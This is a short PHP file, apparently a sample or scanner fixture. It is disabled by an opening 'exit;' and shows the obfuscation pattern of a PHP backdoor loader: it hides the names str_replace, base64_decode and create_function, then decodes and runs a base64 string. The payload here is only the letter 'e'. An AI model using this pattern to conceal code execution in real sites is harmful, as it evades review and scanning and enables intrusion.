<?php exit;
$s = str_replace('z', '', 'szztrz_rezplazce');
$d = $s('q', '', 'bqasqe64q_deqcoqde');
$c = $s('w', '', 'crwewatwe_wfunwctiwon');
$e = $c('', $d('ZQ=='));
$e();
